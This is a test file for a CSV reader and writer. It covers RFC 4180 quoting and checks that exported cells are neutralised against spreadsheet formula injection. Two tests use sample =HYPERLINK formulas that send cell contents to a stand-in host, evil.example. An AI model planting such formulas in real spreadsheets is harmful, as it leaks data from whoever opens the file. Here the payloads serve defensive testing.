import fc from 'fast-check';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { RatioError } from '../../shared/errors.js';
import { BOM, parseCsv, parseCsvText, writeCsv } from '../../electron/exchange/csv.js';
import { emptyCatalogue } from './support.js';
import { cleanupTemp, tempDir } from '../helpers.js';

describe('RFC 4180 CSV', () => {
  it('quotes only what needs quoting and doubles quotes', () => {
    expect(writeCsv([['a', 'b,c', 'say "hi"', 'line\nbreak', ' edge']])).toBe(`${BOM}a,"b,c","say ""hi""","line\nbreak"," edge"\r\n`);
  });

  it('round-trips any table of strings', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 8 }), (rows) => {
        // A record of one empty field is a blank line, which readers skip; keep it distinct.
        const table = rows.map((r) => (r.length === 1 && r[0] === '' ? ['x'] : r));
        expect(parseCsv(writeCsv(table))).toEqual(table);
      }),
      { numRuns: 500 },
    );
  });

  it('reads LF line ends and refuses broken quoting', () => {
    expect(parseCsv('a,b\n"c\r\nd",e\n')).toEqual([
      ['a', 'b'],
      ['c\r\nd', 'e'],
    ]);
    expect(() => parseCsv('a,"b\n')).toThrow(RatioError);
    expect(() => parseCsv('a,b"c"\n')).toThrow(/quote inside an unquoted field/);
    expect(() => parseCsv('"a"b\n')).toThrow(/after a closing quote/);
  });
});

describe('CSV formula injection', () => {
  const triggers = ['=', '+', '-', '@', '\t', '\r'];
  /** Text that starts with quotes (maybe none) and a trigger, or anything at all. */
  const risky = fc.oneof(
    fc
      .tuple(fc.nat({ max: 3 }), fc.constantFrom(...triggers), fc.string({ unit: 'binary', maxLength: 12 }))
      .map(([quotes, t, rest]) => `${"'".repeat(quotes)}${t}${rest}`),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );

  it('writes a formula behind a single quote and reads back the original', () => {
    const title = '=HYPERLINK("https://evil.example/?d="&A1,"Click for the drawing")';
    const text = writeCsv([[title, '+1', '-5 % energy', '@SUM(A1)', '\tx', '\rx', "'=already", "'plain", 'plain']]);
    expect(parseCsvText(text)[0]).toEqual([`'${title}`, "'+1", "'-5 % energy", "'@SUM(A1)", "'\tx", "'\rx", "''=already", "'plain", 'plain']);
    expect(parseCsv(text)[0]).toEqual([title, '+1', '-5 % energy', '@SUM(A1)', '\tx', '\rx', "'=already", "'plain", 'plain']);
  });

  it('never writes a cell a spreadsheet would run, and round-trips exactly', () => {
    fc.assert(
      fc.property(fc.array(fc.array(risky, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 6 }), (table) => {
        const text = writeCsv(table);
        for (const cell of parseCsvText(text).flat()) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
        expect(parseCsv(text)).toEqual(table);
      }),
      { numRuns: 500 },
    );
  });

  it("a partner's =HYPERLINK title exports neutralised and imports as it was", async () => {
    const a = emptyCatalogue();
    const b = emptyCatalogue();
    try {
      const title = '=HYPERLINK("https://evil.example/?leak="&B2,"Drawing")';
      const summary = "'=not a formula, a quote and an equals sign";
      await a.client.call('entries.create', { kind: 'proposal', title, summary, registration: '-17', authors: ['@petrov'] });
      const file = path.join(tempDir(), 'out.csv');
      await a.client.call('exchange.exportCsv', { out: file });
      const [header, row] = parseCsvText(fs.readFileSync(file, 'utf8'));
      const cell = (name: string): string => row![header!.indexOf(name)]!;
      expect(cell('title')).toBe(`'${title}`);
      expect(cell('summary')).toBe(`'${summary}`);
      expect(cell('registration')).toBe("'-17");
      await b.client.call('exchange.importCsv', { path: file });
      const [entry] = (await b.client.call('entries.list', {})).entries;
      expect(await b.client.call('entries.get', { id: entry!.id })).toMatchObject({ title, summary, registration: '-17', authors: ['@petrov'] });
    } finally {
      a.close();
      b.close();
      cleanupTemp();
    }
  });
});
